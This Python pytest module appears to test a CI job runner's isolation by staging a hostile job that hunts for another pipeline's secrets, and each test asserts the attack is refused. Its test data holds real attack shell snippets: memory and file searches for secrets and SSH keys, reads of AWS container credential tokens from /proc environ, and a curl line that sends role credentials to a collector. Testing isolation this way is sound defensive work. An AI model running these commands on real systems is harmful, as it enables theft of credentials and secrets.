"""Another pipeline's secrets, and a job's own outside of their moment, sought by a hostile job.

The hostile job and its victim run at once in one queue, each on an instance of its own. Each search
finds what the attacker may have, which shows that it would find the rest.
"""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from attacks import given, hosts
from attacks.asking import Ask, Caller, assert_passed, assert_refused, summary
from attacks.attempts import Attempt, Attempts
from attacks.collector import Collector
from attacks.conftest import Seen
from attacks.given import (
    CANARY,
    GLOBAL,
    HOSTILE,
    KEY,
    OWN,
    PATH,
    QUEUE,
    VICTIM,
    VICTIMS,
    Repositories,
)
from attacks.rows import Code, attack
from attacks.searching import digest, found, keys_of, program, search
from attacks.ways import ask, one_line
from mayfly_lab.aws.front.call import Kind
from mayfly_lab.contracts import Keys
from mayfly_lab.lab import STACK
from stories.stage import Stage

PARAMETERS = {QUEUE: given.PARAMETERS}
STACKS = {QUEUE: given.STACK}
_CONTROL, _CONTROL_KEY = "canary-of-control-4711", "/tmp/control"


def _search(place: str) -> str:
    """Bash of the attacker, who knows the forms of values and keys."""
    return f"{search(place, CANARY)} {shlex.quote(KEY)}"


_HOST_READS_ITS_OWN = "the host reads the folders of its own job alone"
_MOMENT = f"""#!/bin/bash
{{
  ssh-add -l
  for name in parts private; do
    echo "$name: $(git ls-remote "$GIT_SERVER/$name.git" 2>&1 | grep -c refs/heads/main)"
  done
  {program("open_processes")}
  {program("ask_ssh_agent")}
}} >/tmp/moment 2>&1
"""
_AFTER = """
echo "left: $(ls -A /run/mayfly/given /run/mayfly/ssh)"
for agent in repository shared; do
  export SSH_AUTH_SOCK=/run/mayfly/ssh/$agent
  ssh-add -l
  for name in parts private hostile; do
    heads=$(git ls-remote "$GIT_SERVER/$name.git" 2>/dev/null | grep -c refs/heads/main)
    echo "$agent, $name: $heads"
  done
done
"""
_ROLE = 'curl -sS --max-time 9 -H "Authorization: $token" "$uri"'
_OWN_ROLE = f"""
uri=$AWS_CONTAINER_CREDENTIALS_FULL_URI token=$(cat "$AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE")
{_ROLE}"""


@pytest.fixture(scope="module")
def git() -> Iterator[Repositories]:
    with given.repositories(_MOMENT) as found:
        yield found


@pytest.fixture(scope="module")
def stage(
    git: Repositories, collector: Collector, request: pytest.FixtureRequest
) -> Iterator[Stage]:
    with given.a_stage_with(git, request.module, collector) as stage:
        yield stage


def step(stage: Stage) -> Mapping[str, Any]:
    """The hostile plugin, which acts while the repository's key is there."""
    (_, door) = stage.lab.choices.doors
    server = f"ssh://git@127.0.0.1:{door.port}"
    return {"env": {"GIT_SERVER": server}, "plugins": [{f"{server}/hostile.git#main": None}]}


@pytest.fixture(scope="module", autouse=True)
def victim(stage: Stage, git: Repositories) -> Iterator[str]:
    """The instance of the victim's job, which runs with its secrets while it is attacked."""
    command = "echo begun; until [ -e /tmp/go ]; do sleep 0.1; done"
    url = git.server.url("private")
    host = stage.running(given.push(stage, VICTIM, url, command=command))
    yield host
    hosts.let_go(stage, host)


def _by_root(attempt: Attempt, git: Repositories, place: str) -> set[str]:
    """What root finds on the attacker's host, by digest; asserts: nothing of the victim's."""
    foreign = {VICTIMS, given.secret_lines(git)["victim"]}
    wanted = {*foreign, OWN, _CONTROL, *given.secret_lines(git).values()}
    output = attempt.run(search(place), "\n".join(map(re.escape, sorted(wanted)))).output
    assert not {digest(each) for each in foreign} & found(output), output
    return found(output)


def _by_root_of(victim: str, stage: Stage, place: str) -> set[str]:
    """What root finds on the victim's host, by digest."""
    return found(hosts.run(stage, victim, search(place, CANARY)).output)


@attack(
    "Command lines, environments and deleted files of every process are searched for secrets and"
    " keys, by the job and by root",
    refused_by="the host",
    mechanism=f"{_HOST_READS_ITS_OWN}, and hands keys over by a pipe",
    code=Code(_search("processes"), limit=150),
)
def test_processes_show_the_jobs_own_values_alone(
    attempt: Attempt, git: Repositories, victim: str, seen: Seen
) -> None:
    assert found(attempt.as_job().output) == {digest(OWN), digest(GLOBAL)}
    assert _by_root(attempt, git, "processes") == {digest(OWN)}
    there = _by_root_of(victim, attempt.attempts.stage, "processes")
    assert there == {digest(VICTIMS), digest(GLOBAL)}
    seen("job: its own two values, no key; the victim's processes have the victim's")


@attack(
    "All files are searched for secrets and keys, the host's and those in memory among them, by the"
    " job and by root",
    refused_by="the host",
    mechanism="values stand in a file of the job's user in memory until the job's first hook has"
    " read it; keys stand in no file",
    code=Code(
        f"ssh-keygen -q -t ed25519 -N '' -f {_CONTROL_KEY}; echo {_CONTROL}\n" + _search("files"),
        limit=120,
    ),
)
def test_no_file_holds_a_secret(
    attempt: Attempt, git: Repositories, victim: str, seen: Seen
) -> None:
    job = found(attempt.as_job().output)
    control = {digest(_CONTROL), given.key_digest(attempt.run(f"cat {_CONTROL_KEY}").output)}
    assert job == control
    assert _by_root(attempt, git, "files") == {digest(_CONTROL)}
    assert _by_root_of(victim, attempt.attempts.stage, "files") == set()
    seen("job: only its control, value and key; root: only the control")


@attack(
    "The memory of every process is searched for secrets and keys, by the job and by root",
    refused_by="the kernel and the host",
    mechanism=f"the job's user may not read root's memory; {_HOST_READS_ITS_OWN}",
    code=Code(_search("memory"), limit=120),
)
def test_no_memory_holds_what_is_anothers(
    attempt: Attempt, git: Repositories, victim: str, seen: Seen
) -> None:
    job = found(attempt.as_job().output)
    assert digest(OWN) in job, "the job's search is blind"
    assert digest(VICTIMS) not in job
    assert not {given.key_digest(each) for each in git.keys.values()} & job
    own_key = digest(given.secret_lines(git)["attacker"])
    assert _by_root(attempt, git, "memory") >= {digest(OWN), own_key}
    assert digest(VICTIMS) in _by_root_of(victim, attempt.attempts.stage, "memory")
    seen("job: its own values, no key; root: the job's own values and key, nothing of the victim's")


def _opened(output: str, process: str) -> Mapping[str, str]:
    """What a look into the process came to, by part."""
    parts = dict(re.findall(rf"^{process} (\w+): (.+)$", output, re.MULTILINE))
    assert len(parts) == 5, output
    return parts


@attack(
    "Job code opens environment, memory and open files of the supervisor and of both ssh-agents,"
    " and traces them, before the checkout, when both have their keys",
    refused_by="the kernel",
    mechanism="the supervisor is root's; ssh-agent lets no process of its user into its memory",
    code=Code("cat /tmp/moment", root=program("open_processes")),
)
def test_nobody_opens_the_holders_of_keys(attempt: Attempt, seen: Seen) -> None:
    job, root = attempt.as_job().output, attempt.as_root().output
    holders = ("supervisor", "ssh-agent-shared", "ssh-agent-repository")
    for each in holders:
        parts = _opened(job, each).values()
        assert set(parts) <= {"Permission denied", "Operation not permitted"}, (each, job)
    assert set(_opened(job, "child").values()) == {"opened"}, "the job's look is blind"
    for each in holders[:2]:
        assert set(_opened(root, each).values()) == {"opened"}, root
    assert "ssh-agent-repository" not in root
    seen("job: five parts of three processes, none opened; an ordinary process is; root opens them")


@attack(
    "Job code asks the ssh-agent of its repository for the private key, by every kind of message",
    refused_by="ssh-agent",
    mechanism="the protocol has no message that exports a key",
    code=Code("cat /tmp/moment"),
)
def test_a_key_is_used_and_not_exported(attempt: Attempt, git: Repositories, seen: Seen) -> None:
    output = attempt.as_job().output
    asked = re.search(r"^asked (\d+)$", output, re.MULTILINE)
    assert asked, output
    assert "parts library (ED25519)" in output
    assert re.findall(r"^(?:parts|private): \d$", output, re.MULTILINE) == [
        "parts: 1",
        "private: 0",
    ]
    answers, key = given.answers(output), git.keys["attacker"]
    assert given.public_bytes(key) in answers
    assert given.seed(key) in given.decoded(key), "the search is blind"
    assert given.seed(key) not in answers
    seen(f"{asked[1]} messages, {len(answers)} bytes of answers: the public key, no private one")


@attack(
    "Job code uses the keys after its checkout: by both sockets, for its repository, the victim's"
    " and a plugin",
    refused_by="the host and the git server",
    mechanism="the agent with the repository's key ends after the checkout; the shared key opens"
    " what every pipeline may have",
    code=Code(_AFTER, limit=90),
)
def test_the_repositorys_key_is_gone_after_the_checkout(
    attempt: Attempt, git: Repositories, seen: Seen
) -> None:
    job = attempt.as_job().output
    opened = dict(re.findall(r"^(\w+, \w+): (\d)$", job, re.MULTILINE))
    assert opened.pop("shared, hostile") == "1", job
    assert set(opened.values()) == {"0"}, job
    assert len(opened) == 5
    assert "hostile taker (ED25519)" in job
    assert "parts library" not in job
    uses = git.server.used
    assert uses.count(("parts library", "parts")) == 1
    assert {name for key, name in uses if key == "private"} == {"private"}
    assert ("hostile taker", "private") in uses
    seen(f"job: {one_line(job)}; the repository's key was used once, before the checkout")


_OTHERS = """
home=$(mktemp -d) && chmod 755 $home
as_nobody="setpriv --reuid=65534 --regid=65534 --clear-groups"
as_job="setpriv --reuid=mayfly-job --regid=mayfly-job --clear-groups"
mkdir $home/open && chown 65534 $home/open && chmod 777 $home/open
$as_nobody ssh-agent -D -a $home/open/socket >/dev/null 2>&1 &
until [ -S $home/open/socket ]; do sleep 0.1; done
chmod 777 $home/open/socket
export SSH_AUTH_SOCK=$home/open/socket
# Refused, ssh-add may end by SIGPIPE without a word.
list() { echo "$1: $("${@:2}" ssh-add -l 2>&1 | tr '\\n' ' '; echo "exit ${PIPESTATUS[0]}")"; }
$as_nobody ssh-keygen -q -t ed25519 -N '' -C of-nobody -f $home/open/key
$as_nobody ssh-add -q $home/open/key
list nobody $as_nobody
list job $as_job
export SSH_AUTH_SOCK=/run/mayfly/ssh/shared
list "own, nobody" $as_nobody
list "own, job" $as_job
kill %1
"""


@attack(
    "A process of the job's user asks the ssh-agent of another user, whose socket is open to all;"
    " another user asks the job's",
    refused_by="ssh-agent and the host",
    mechanism="ssh-agent answers root and its own user alone; the job's sockets lie in a folder of"
    " the job's user",
    code=Code("ssh-add -l"),
)
def test_no_agent_of_another_user_answers(attempt: Attempt, seen: Seen) -> None:
    assert "hostile taker" in attempt.as_job().output
    said = dict(re.findall(r"^([a-z, ]+): (.*)$", attempt.run(_OTHERS).output, re.MULTILINE))
    assert re.search("of-nobody.*exit 0", said["nobody"]), said
    assert re.search("hostile taker.*exit 0", said["own, job"]), said
    for each in ("job", "own, nobody"):
        assert "ED25519" not in said[each]
        assert "exit 0" not in said[each]
    seen(f"job: {said['job']}; nobody: {said['own, nobody']}; each its own: listed")


@attack(
    "Job code asks for the victim's role with the victim's own token, on its own instance",
    refused_by="the host",
    mechanism="a role is served on loopback of the victim's instance, to the job's user there",
    code=Code("ss -Hltn 2>/dev/null | head -20; echo listed"),
)
def test_a_leaked_token_of_another_jobs_role_opens_nothing(
    attempt: Attempt, victim: str, seen: Seen
) -> None:
    stage = attempt.attempts.stage
    take = """
    printf 'uri=%s\\n' "$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' \\
      | sed -n 's/^AWS_CONTAINER_CREDENTIALS_FULL_URI=//p' | head -1)"
    printf 'token=%s\\n' "$(cat /run/mayfly/role/token)"
    """
    leaked = hosts.run(stage, victim, take).output
    code = f"as_job='setpriv --reuid=mayfly-job --regid=mayfly-job --clear-groups'\n{leaked}\n"
    code += f"$as_job {_ROLE} -o /dev/null -w 'HTTP %{{http_code}}'; true"
    there, here = hosts.run(stage, victim, code).output, attempt.run(code).output
    assert there == "HTTP 200"
    assert re.search(r"HTTP (000|403)", here), here
    seen(f"on the victim's instance: {there}; on the attacker's: {one_line(here)}")


def _sent_role(attempt: Attempt) -> Caller:
    """Who has the credentials of the attacked job's role, from outside."""
    (sent,) = attempt.attempts.collector.sent("/role")
    body = json.loads(sent.body)
    assert body["RoleArn"].endswith(f"/{HOSTILE}")
    expires = datetime.now(UTC) + timedelta(hours=1)
    keys = Keys(body["AccessKeyId"], body["SecretAccessKey"], body["Token"], expires)
    return Caller(attempt.attempts.stage.lab.aws.endpoint, keys)


@attack(
    "Job code asks Parameter Store, the Mailbox and STS for secrets, with all that it has: no role"
    " from the metadata service, and its own role from the endpoint",
    refused_by="the host's packet filter, and IAM",
    mechanism="the sandbox role alone reads the queue's folder, and no job has that role",
    code=Code(
        f'{_OWN_ROLE} | curl -sS --data-binary @- "$COLLECTOR/role"\n{ask("169.254.169.254")}'
    ),
)
def test_the_jobs_role_reads_no_secret(attempt: Attempt, victim: str, seen: Seen) -> None:
    stage = attempt.attempts.stage
    assert "HTTP 000" in attempt.as_job().output
    name = f"{PATH}/{VICTIM}/env/victim-token"
    reads = [
        Ask("ssm", "get_parameter", {"Name": name, "WithDecryption": True}),
        Ask("ssm", "get_parameters", {"Names": [name, f"{PATH}/global/env/for-all"]}),
        Ask("ssm", "get_parameter_history", {"Name": name, "WithDecryption": True}),
        Ask("ssm", "describe_parameters"),
    ]
    folders = [
        Ask("ssm", "get_parameters_by_path", {"Path": each, "Recursive": True})
        for each in (PATH, f"{PATH}/{VICTIM}", f"{PATH}/{HOSTILE}", "/")
    ]
    table, row = f"{STACK}-mailbox", stage.instance(victim).sandbox_row or ""
    sandbox_role = stage.published(QUEUE)["sandbox_role"]
    others = [
        Ask("dynamodb", "get_item", {"TableName": table, "Key": {"key": {"S": row}}}),
        Ask("dynamodb", "scan", {"TableName": table}),
        Ask("sts", "assume_role", {"RoleArn": sandbox_role, "RoleSessionName": "attack"}),
    ]
    told = _sent_role(attempt).all([*reads, *folders, *others])
    assert_refused(told)
    host = attempt.attempts.host(QUEUE)
    sandbox = Caller(stage.lab.aws.endpoint, keys_of(stage, host, Kind.SANDBOX)[-1])
    assert_passed(sandbox.all([reads[1], folders[1]]), "the calls are wrong")
    seen(f"{summary(told)}; the sandbox role, which no job has, may")


@attack(
    "After the attacks above: logs of functions and jobs, consoles, records, calls and the Mailbox"
    " are searched for every value and key",
    refused_by="the control plane and the host",
    mechanism="no function reads a secret; assignments have names alone; values and keys are hidden"
    " from what hosts write",
)
def test_no_secret_of_a_job_is_written_down(
    attempts: Attempts, git: Repositories, seen: Seen
) -> None:
    attempts.of_job(QUEUE)
    stage = attempts.stage
    evidence = stage.evidence()
    places = dict(evidence.texts)
    places["calls"] = "\n".join(f"{entry} {entry.request}" for entry in evidence.journal)
    rows = stage.lab.aws.client("dynamodb").scan(TableName=f"{STACK}-mailbox")["Items"]
    places["mailbox rows"] = str(rows)
    for instance in stage.lab.aws.ec2.instances.values():
        places[f"the user data of {instance.instance_id}"] = instance.user_data.decode()
    secrets = {OWN, GLOBAL, VICTIMS, *given.secret_lines(git).values()}
    assert [where for where, text in places.items() if any(each in text for each in secrets)] == []
    assert any(_CONTROL in text for where, text in places.items() if "log of job" in where)
    assert any(f"{PATH}/{VICTIM}" in text for text in places.values())
    size = sum(map(len, places.values()))
    seen(f"{len(secrets)} secrets, none in {len(places)} texts of {size >> 10} KB")
